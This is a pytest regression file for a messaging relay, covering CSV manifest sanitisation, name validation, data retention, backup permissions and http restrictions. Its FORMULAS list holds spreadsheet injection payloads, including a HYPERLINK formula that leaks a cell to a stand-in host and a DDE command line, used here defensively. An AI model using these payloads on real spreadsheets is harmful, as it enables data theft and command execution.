"""Gaps found by the data-protection review (issue 14), one regression test each.

Audit tail, sealed-field roll-back and inbox erasure have their own modules; these are the
smaller ones: spreadsheet formulas in manifests, retention of every site code, private files
and plain http only to this machine.
"""

from __future__ import annotations

import csv
import io
import os
import stat
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path

import pytest

from bot.i18n.catalog import translator
from bot.texts import input_error
from relay import messages, retention
from relay.clock import FakeClock
from relay.errors import ConfigError, InvalidInput
from relay.handover import ChecklistLine, manifest_rows
from relay.models import MessageState, Site
from relay.settings import load_settings
from relay.store import Store
from relay.text_input import clean_name, spreadsheet_safe
from tests.relay.conftest import Family

MakeFamily = Callable[..., Awaitable[Family]]
Send = Callable[..., Awaitable[messages.Submitted]]

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def usual_umask() -> Iterator[None]:
    old = os.umask(0o022)
    yield
    os.umask(old)


@pytest.mark.parametrize("cell", FORMULAS, ids=["equals", "plus", "minus", "at", "tab", "cr"])
def test_manifest_cells_never_start_a_formula(cell: str) -> None:
    line = ChecklistLine("m_1", "RCM-7K3F-9Q2D", cell, cell, MessageState.PRINTED, "")
    text = io.StringIO()
    csv.writer(text).writerows(manifest_rows([line]))
    row = list(csv.reader(io.StringIO(text.getvalue())))[1]
    assert row[1] == "'" + cell
    assert row[2] == "'" + cell
    assert row[0] == "RCM-7K3F-9Q2D"


def test_ordinary_cells_are_left_alone() -> None:
    assert spreadsheet_safe("Jean-Pierre Durand") == "Jean-Pierre Durand"
    assert spreadsheet_safe("D-0042") == "D-0042"
    assert spreadsheet_safe("") == ""


@pytest.mark.parametrize("name", ["=HYPERLINK(1)", "+Karim", "-Karim", "@Karim"])
def test_a_name_cannot_start_like_a_formula(name: str) -> None:
    with pytest.raises(InvalidInput) as caught:
        clean_name(name, field="addressee_latin")
    assert caught.value.code == "name_start"
    assert clean_name("Jean-Pierre") == "Jean-Pierre"


async def test_a_formula_name_is_refused_with_a_localized_answer_and_nothing_stored(
    store: Store, make_family: MakeFamily
) -> None:
    family = await make_family()
    with pytest.raises(InvalidInput) as caught:
        await messages.add_addressee(
            store,
            family.person_id,
            messages.NewAddressee(
                full_name="=HYPERLINK(1)",
                latin_name="=HYPERLINK(1)",
                father_name=None,
                birth_date=None,
                detainee_number=None,
                site_code="ALP",
                relationship="brother",
            ),
        )
    english = input_error(translator("en"), caught.value.code)
    assert english == "A name cannot start with =, +, - or @. Please type it again."
    assert input_error(translator("ar"), caught.value.code) != english
    async with store.tx() as tx:
        row = await tx.one(
            "SELECT COUNT(*) AS n FROM addressees WHERE family_id = ?", (family.person_id,)
        )
    assert row is not None
    assert row["n"] == 1  # the one make_family added


async def test_retention_purges_chat_messages_and_those_of_a_removed_site(
    store: Store, make_family: MakeFamily, send: Send, sites: dict[str, Site], clock: FakeClock
) -> None:
    # Given a delivered message between linked families, one of a site no longer configured,
    # and one of a configured site, all finished
    family = await make_family()
    sent = [await send(family, f"Letter {n}.") for n in range(3)]
    for one, code in zip(sent, ("CHAT", "OLD", "ALP"), strict=True):
        async with store.tx() as tx:
            await tx.execute(
                "UPDATE messages SET state = 'delivered', site_code = ? WHERE id = ?",
                (code, one.message_id),
            )
    # When the default retention has passed and purge runs
    clock.advance(days=retention.DEFAULT_RETENTION_DAYS + 1)
    report = await retention.purge(store, sites=sites)
    # Then every one of them is gone, each counted under its own site code
    assert report.by_site["CHAT"] == 1
    assert report.by_site["OLD"] == 1
    assert report.by_site["ALP"] == 1
    async with store.tx() as tx:
        row = await tx.one("SELECT COUNT(*) AS n FROM messages")
    assert row is not None
    assert row["n"] == 0


def test_a_closed_site_keeps_the_default_retention(sites: dict[str, Site]) -> None:
    assert retention.retention_days("OLD", sites) == retention.DEFAULT_RETENTION_DAYS
    assert retention.retention_days("ALP", sites) == sites["ALP"].retention_days


@pytest.mark.sqlite_only
async def test_backup_is_private_whatever_the_umask(
    store: Store, tmp_path: Path, usual_umask: None
) -> None:
    backup = tmp_path / "b.sqlite3"
    await store.backup(backup)
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600
    assert backup.stat().st_size > 0


@pytest.mark.parametrize(
    "url", ["http://10.0.0.5:8081", "http://api.telegram.org", "http://127.0.0.1.example.org"]
)
def test_plain_http_to_another_machine_is_refused(url: str) -> None:
    with pytest.raises(ConfigError) as caught:
        load_settings({"RCM_TELEGRAM_API_URL": url})
    assert str(caught.value) == (
        f"RCM_TELEGRAM_API_URL: {url!r} uses plain http to another machine;"
        " use https (plain http is allowed to 127.0.0.1, ::1 or localhost only)"
    )


@pytest.mark.parametrize("url", ["http://127.0.0.1:8081", "http://[::1]:8081", "http://localhost"])
def test_plain_http_to_this_machine_is_allowed(url: str) -> None:
    assert load_settings({"RCM_TELEGRAM_API_URL": url}).telegram_api_url == url


def test_the_master_key_in_the_data_folder_is_noticed(tmp_path: Path) -> None:
    inside = load_settings({"RCM_DATA_DIR": str(tmp_path / "d")})
    apart = load_settings(
        {"RCM_DATA_DIR": str(tmp_path / "d"), "RCM_KEY_FILE": str(tmp_path / "k" / "m.json")}
    )
    assert inside.key_in_data_dir is True
    assert apart.key_in_data_dir is False
